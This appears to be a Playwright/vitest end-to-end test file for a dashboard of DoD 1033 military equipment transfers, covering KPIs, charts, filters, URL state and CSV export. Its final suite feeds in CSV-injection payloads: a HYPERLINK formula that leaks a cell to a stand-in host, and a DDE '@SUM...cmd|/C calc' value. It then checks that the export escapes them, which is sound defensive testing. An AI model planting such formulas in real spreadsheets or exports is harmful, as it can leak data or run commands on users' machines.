import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { parquetReadObjects } from 'hyparquet';
import type { Page } from 'playwright-core';
import { describe, expect, inject, it } from 'vitest';
import { regionOf } from '../../src/datasets/lookups/regions.js';
import { STATE_NAMES } from '../../src/datasets/lookups/states.js';
import { csvText, expectLandmarks, openPage, pageUrl, screenshot, useSite, useSiteRebuilt, waitForPage } from './harness.js';

interface CacheRow {
  State: string;
  Quantity: number;
  'Acquisition Value': number;
  'Agency Name': string;
  NSN: string;
  'Item Name': string;
  'Ship Date': Date | string | null;
  Year: number | null;
  Category: string;
  'DEMIL Code': string;
}

// The expected figures come straight from the cache the site was built from, not from the page's code.
const bytes = await readFile(join(inject('cacheDir'), 'equipment.parquet'));
const cache = (await parquetReadObjects({ file: bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) as ArrayBuffer })) as unknown as CacheRow[];
const years = cache.map((r) => r.Year).filter((y): y is number => y !== null);
const [firstYear, lastYear] = [Math.min(...years), Math.max(...years)];
const fmt = (n: number): string => new Intl.NumberFormat('en-US', { maximumFractionDigits: 0 }).format(n);
const kpisOf = (rows: CacheRow[]): string[] => [
  fmt(rows.reduce((s, r) => s + r.Quantity, 0)),
  `$${fmt(Math.round(rows.reduce((s, r) => s + r['Acquisition Value'], 0)))}`,
  // An agency is a (state, name) pair; lines without a name count in the sums only.
  fmt(new Set(rows.filter((r) => r['Agency Name'].trim() !== '').map((r) => `${r.State}|${r['Agency Name']}`)).size),
  fmt(new Set(rows.map((r) => r.State)).size),
];

/** One exported line or cache row as comparable text: who, what, how many, how much, when. */
const lineKey = (line: object): string => {
  const r = line as Record<string, unknown>;
  const day = r['Ship Date'] instanceof Date ? r['Ship Date'].toISOString().slice(0, 10) : String(r['Ship Date'] ?? '').slice(0, 10);
  return [r.State, r['Agency Name'], r.NSN, r['Item Name'], Number(r.Quantity), Number(r['Acquisition Value']).toFixed(2), day, r.Year ?? '', r.Category, r['DEMIL Code']].join('|');
};
const sum = (rows: CacheRow[], pick: (r: CacheRow) => number): number => rows.reduce((s, r) => s + pick(r), 0);
const compact = (n: number): string => (Math.abs(n) < 10_000 ? fmt(n) : new Intl.NumberFormat('en-US', { notation: 'compact', maximumFractionDigits: 1 }).format(n));

const session = useSite();

const kpis = (page: Page): Promise<string[]> => page.locator('.kpi-value').allTextContents();
const search = async (page: Page): Promise<URLSearchParams> => (await pageUrl(page)).searchParams;

/** Types into a multi-select by its label and picks the first matching option with Enter. */
async function choose(page: Page, label: string, text: string): Promise<void> {
  const input = page.getByRole('combobox', { name: label });
  await input.click();
  await input.fill(text);
  await input.press('Enter');
  await input.press('Escape');
}

async function settled(page: Page, expected: string[]): Promise<void> {
  await page.waitForFunction((want) => JSON.stringify([...document.querySelectorAll('.kpi-value')].map((e) => e.textContent)) === JSON.stringify(want), expected, { timeout: 20_000 });
}

describe('Equipment page', () => {
  it('shows the KPIs of the cache and ten charts, territories included', async () => {
    const opened = await openPage(session.browser, `${session.server.url}equipment.html`);
    const { page } = opened;
    await waitForPage(page);
    await expectLandmarks(page);
    expect(await page.locator('.chart-card').count()).toBe(10);
    expect(await page.locator('.chart-card .state-empty').count()).toBe(0);
    // Undated lines count by default (the original dropped them).
    expect(cache.some((r) => r.Year === null)).toBe(true);
    expect(await kpis(page)).toEqual(kpisOf(cache));
    // Both maps give every territory an inset with its figure.
    const captions = await page.locator('.territory-inset figcaption').allTextContents();
    expect(captions.filter((c) => c.startsWith('PR '))).toHaveLength(2);
    expect(captions.some((c) => /^GU \$/.test(c))).toBe(true);
    // Before anything scrolls the page (a full-page screenshot shows the sticky header where the page was scrolled to).
    await screenshot(page, 'equipment');

    // EQ-7 as drawn: the ten states of largest value in rank order, bar lengths in proportion, the hover card exact.
    const byState = new Map<string, number>();
    for (const r of cache) byState.set(r.State, (byState.get(r.State) ?? 0) + r['Acquisition Value']);
    const ranked = [...byState].filter(([, v]) => v > 0).sort((a, b) => b[1] - a[1] || (a[0] < b[0] ? -1 : 1)).slice(0, 10);
    const topStates = page.locator('.chart-card', { hasText: 'Top 10 states by value' });
    expect(await topStates.locator('.bar-labels text').allTextContents()).toEqual(ranked.map(([code], i) => `${i + 1}. ${STATE_NAMES[code] ?? code}`));
    const widths = await topStates.locator('.bars rect').evaluateAll((rects) => rects.map((r) => Number(r.getAttribute('width'))));
    expect(widths.map((w) => w / (widths[0] as number))).toEqual(ranked.map(([, v]) => expect.closeTo(v / ranked[0]![1], 6)));
    await topStates.locator('.bars rect').nth(1).hover();
    expect(await page.locator('.hover-tip').isVisible()).toBe(true);
    expect(await page.locator('.hover-tip').textContent()).toBe(`#2 ${STATE_NAMES[ranked[1]![0]]} (${regionOf(ranked[1]![0])})Value: $${fmt(Math.round(ranked[1]![1]))}`);
    await page.mouse.move(0, 0);
    expect(await page.locator('.hover-tip').isHidden()).toBe(true);
    expect(opened.errors).toEqual([]);
    expect(opened.failed).toEqual([]);
    await opened.close();
  });

  it('drives each filter into the URL, restores it on reload and Back, and exports the filtered rows', async () => {
    const opened = await openPage(session.browser, `${session.server.url}equipment.html`);
    const { page } = opened;
    await waitForPage(page);

    await choose(page, 'States & territories', 'Texas');
    await choose(page, 'States & territories', 'Puerto Rico');
    expect((await search(page)).getAll('state')).toEqual(['TX', 'PR']);
    let rows = cache.filter((r) => r.State === 'TX' || r.State === 'PR');
    await settled(page, kpisOf(rows));

    // The slider's "from" thumb, moved from the keyboard: one year up excludes undated lines from then on.
    await page.getByRole('slider', { name: 'Ship year from' }).focus();
    await page.keyboard.press('ArrowRight');
    expect((await search(page)).get('years')).toBe(`${firstYear + 1}..${lastYear}`);
    rows = rows.filter((r) => r.Year !== null && r.Year >= firstYear + 1);
    await settled(page, kpisOf(rows));

    await choose(page, 'Category', 'Weapons');
    expect((await search(page)).get('category')).toBe('Weapons & Firearms');
    rows = rows.filter((r) => r.Category === 'Weapons & Firearms');
    await settled(page, kpisOf(rows));

    await choose(page, 'DEMIL code', 'total destruction');
    expect((await search(page)).get('demil')).toBe('D');
    rows = rows.filter((r) => r['DEMIL Code'] === 'D');
    await settled(page, kpisOf(rows));
    await waitForPage(page);
    await screenshot(page, 'equipment-filtered');

    // The export-only columns are not fetched with the page, only on the first export.
    const detailRequests = (): number => session.server.requests.filter((path) => path.includes('/equipment.details.')).length;
    expect(detailRequests()).toBe(0);
    const download = page.waitForEvent('download');
    await page.getByRole('button', { name: /^Export CSV/ }).click();
    const csv = await readFile(await (await download).path(), 'utf8');
    expect(detailRequests()).toBe(1);
    expect(await page.getByRole('button', { name: /^Export CSV/ }).textContent()).toBe(`Export CSV (${fmt(rows.length)} rows)`);
    const header = csv.replace(/^\uFEFF/, '').split('\r\n')[0];
    expect(header).toBe('State,Agency Name,NSN,Item Name,Quantity,UI,Acquisition Value,DEMIL Code,DEMIL IC,Ship Date,Station Type,Year,Category');
    const exported = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
    expect(exported).toHaveLength(rows.length);
    expect(rows.length).toBeGreaterThan(0);
    // Line for line the cache's rows (order aside): state, agency, NSN, item, quantity, value, day, year, category, code.
    expect(exported.map((r) => lineKey({ ...r, Year: r.Year === '' ? '' : Number(r.Year) })).sort()).toEqual(rows.map(lineKey).sort());
    expect(sum(exported as unknown as CacheRow[], (r) => Number(r.Quantity))).toBe(sum(rows, (r) => r.Quantity));

    const filtered = (await pageUrl(page)).href;
    // Chips list the choices in the options' order, whatever order they were picked in.
    const chips = ['PR — Puerto Rico ×', 'TX — Texas ×', 'Weapons & Firearms ×', 'D – MLI (SME), total destruction ×'];
    expect(await page.locator('.chip').allTextContents()).toEqual(chips);
    await page.reload();
    await waitForPage(page);
    expect((await pageUrl(page)).href).toBe(filtered);
    await settled(page, kpisOf(rows));
    expect(await page.locator('.chip').allTextContents()).toEqual(chips);
    expect(await page.getByRole('slider', { name: 'Ship year from' }).inputValue()).toBe(String(firstYear + 1));

    await page.goBack();
    expect((await search(page)).get('demil')).toBeNull();
    await settled(page, kpisOf(cache.filter((r) => (r.State === 'TX' || r.State === 'PR') && r.Year !== null && r.Year >= firstYear + 1 && r.Category === 'Weapons & Firearms')));
    expect(opened.errors).toEqual([]);
    expect(opened.failed).toEqual([]);
    await opened.close();
  });

  it('plays and pauses the timeline, switches the map metric and drills into the treemap', async () => {
    const opened = await openPage(session.browser, `${session.server.url}equipment.html`);
    const { page } = opened;
    await waitForPage(page);
    const label = page.locator('.frame-label');
    expect(await label.textContent()).toBe(`Year: ${lastYear}`);
    const play = page.getByRole('button', { name: 'Play' });
    await play.click();
    await page.waitForFunction((y) => Number(document.querySelector('.frame-label')?.textContent?.slice(6)) > y, firstYear);
    expect(await page.locator('.timeline-controls button').getAttribute('aria-pressed')).toBe('true');
    await page.getByRole('button', { name: 'Pause' }).click();
    const paused = await label.textContent();
    const year = Number(paused?.slice(6));
    expect(year).toBeGreaterThan(firstYear);
    expect(year).toBeLessThan(lastYear);
    await page.waitForTimeout(900);
    expect(await label.textContent()).toBe(paused);
    // The frame shows only the years up to the paused one: 5 categories × (year − first + 1) dots.
    const dots = await page.locator('.chart-card').first().locator('svg g[data-mark="dot"] circle').count();
    expect(dots).toBe(5 * (year - firstYear + 1));

    // The state map's Puerto Rico inset shows value, then the sum of Quantity once the toggle says so.
    const pr = cache.filter((r) => r.State === 'PR');
    const prCaption = page.locator('.chart-card').nth(2).locator('.territory-inset figcaption', { hasText: /^PR / });
    expect(await prCaption.textContent()).toBe(`PR $${compact(sum(pr, (r) => r['Acquisition Value']))}`);
    await page.getByText('Quantity (sum of items)').click();
    expect((await search(page)).get('map')).toBe('quantity');
    expect(await prCaption.textContent()).toBe(`PR ${compact(sum(pr, (r) => r.Quantity))}`);
    expect(await page.locator('.chart-card').nth(2).locator('.map-legend').textContent()).toContain('Quantity (sum of items)');

    // Treemap: categories ordered by the value of their 10 largest items; drilling shows only that category's.
    const itemValue = new Map<string, Map<string, number>>();
    for (const r of cache) {
      const items = itemValue.get(r.Category) ?? itemValue.set(r.Category, new Map()).get(r.Category)!;
      items.set(r['Item Name'], (items.get(r['Item Name']) ?? 0) + r['Acquisition Value']);
    }
    const byCategory = new Map(
      [...itemValue].flatMap(([category, items]) => {
        const top = [...items.values()].filter((v) => v > 0).sort((a, b) => b - a).slice(0, 10);
        return top.length ? [[category, { total: top.reduce((s, v) => s + v, 0), shown: top.length }] as const] : [];
      }),
    );
    const [largest, { shown }] = [...byCategory].sort((a, b) => b[1].total - a[1].total)[0]!;
    const groups = page.locator('.treemap-group');
    expect(await groups.count()).toBe(byCategory.size);
    // Each category's button is named by the title drawn on it ("NAME · $1.2M"), then what Enter does.
    const first = page.locator('.treemap-button').first();
    expect(((await first.getAttribute('aria-label')) ?? '').split(' · ')[0]).toBe(largest);
    await first.focus();
    await page.keyboard.press('Enter');
    expect((await search(page)).get('drill')).toBe(largest);
    expect(await groups.count()).toBe(1);
    expect(await groups.locator('rect').count()).toBe(shown);
    expect(await page.locator('.treemap-path').textContent()).toBe(`← All categories ${largest}`);
    await page.getByRole('button', { name: '← All categories' }).click();
    expect((await search(page)).get('drill')).toBeNull();
    expect(await groups.count()).toBe(byCategory.size);
    expect(opened.errors).toEqual([]);
    await opened.close();
  });

  it('a shared link: a state by its name is used as its code, a year range it cannot read is named in a notice', async () => {
    const opened = await openPage(session.browser, `${session.server.url}equipment.html?state=Guam&years=3000-1000`);
    const { page } = opened;
    await waitForPage(page);
    const gu = cache.filter((r) => r.State === 'GU');
    expect(await page.locator('.chip').allTextContents()).toEqual(['GU — Guam ×']);
    expect((await pageUrl(page)).search).toBe('?state=GU');
    expect(await page.locator('.kpi-value').allTextContents()).toEqual(kpisOf(gu));
    expect(await page.getByRole('status').filter({ hasText: 'could not be used' }).locator('li').allTextContents()).toEqual([`years=3000-1000 — expected FROM..TO, e.g. ${firstYear}..${lastYear}`]);
    expect(opened.errors).toEqual([]);
    await opened.close();
  });

  it('year-over-year bars cut at the axis end carry a break mark, not rotated labels', async () => {
    const opened = await openPage(session.browser, `${session.server.url}equipment.html`);
    const { page } = opened;
    await waitForPage(page);
    const growth = page.locator('.chart-card').filter({ hasText: 'Year-over-year growth of value' }).locator('.chart-body svg');
    const texts = await growth.locator('text').evaluateAll((nodes) => nodes.map((n) => ({ text: n.textContent, rotated: /rotate/.test(n.getAttribute('transform') ?? '') })));
    expect(texts.filter((t) => t.rotated)).toEqual([]);
    // The demo data has years whose growth is far beyond the others' (the axis is cut there).
    expect(texts.filter((t) => t.text === '≈').length).toBeGreaterThan(0);
    expect(opened.errors).toEqual([]);
    await opened.close();
  });
});

describe('Equipment export of hostile text', () => {
  const FORMULA = '=HYPERLINK("http://x.test/?leak="&A1,"click")';
  // The demo caches, with the equipment cache rebuilt from a file whose agency and item names are formulas.
  const rebuilt = useSiteRebuilt('equipment', {
    'Military_Equipment_for_Local_Law_Enforcement/dod_all_states.csv': csvText('State,Agency Name,NSN,Item Name,Quantity,UI,Acquisition Value,DEMIL Code,DEMIL IC,Ship Date,Station Type', [
      ['TX', FORMULA, '1005-01-123-4567', '@SUM(1+1)*cmd|/C calc', '2', 'Each', '-5', 'D', '1', '2016-01-04 00:00:00.000', 'State'],
      ['CA', 'Plain County Sheriff', '2320-01-123-4567', '-2+3', '1', 'Each', '1200', 'C', '1', '2015-03-02 00:00:00.000', 'State'],
      ['XX', 'Nowhere PD', '2320-01-123-4567', 'TRUCK', '1', 'Each', '10', 'C', '1', '2015-03-02 00:00:00.000', 'State'],
    ]),
  });

  it('exports a formula-named agency as quoted text with a leading quote, and negative numbers as numbers', async () => {
    const { page, errors, close } = await openPage(rebuilt.browser, `${rebuilt.server.url}equipment.html`);
    await waitForPage(page);
    const download = page.waitForEvent('download');
    await page.getByRole('button', { name: /^Export CSV/ }).click();
    const csv = await readFile(await (await download).path(), 'utf8');
    const lines = csv.replace(/^\uFEFF/, '').split('\r\n');
    const tx = lines.find((l) => l.startsWith('TX,')) ?? '';
    expect(tx.startsWith(`TX,"'=HYPERLINK(""http://x.test/?leak=""&A1,""click"")",1005-01-123-4567,"'@SUM(1+1)*cmd|/C calc",2,Each,-5,`)).toBe(true);
    expect(lines.find((l) => l.startsWith('CA,'))).toContain(`,"'-2+3",1,Each,1200,`);
    const exported = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
    expect(exported.map((r) => r['Agency Name'])).toEqual(expect.arrayContaining([`'${FORMULA}`, 'Plain County Sheriff']));
    expect(errors).toEqual([]);
    await close();
  });

  it("lists the build's input warning (a State that is no state) on the Status page, with its line", async () => {
    const { page, errors, close } = await openPage(rebuilt.browser, `${rebuilt.server.url}status.html`);
    await waitForPage(page);
    const list = page.locator('.warning-list li');
    expect(await list.allTextContents()).toEqual([
      'Military equipment transfers (DoD 1033 program): Military_Equipment_for_Local_Law_Enforcement/dod_all_states.csv: State: 1 codes that are no US state or territory (rows kept as written; on no map or state chart) (line 4 "XX")',
    ]);
    await screenshot(page, 'status-warnings');
    expect(errors).toEqual([]);
    await close();
  });
});
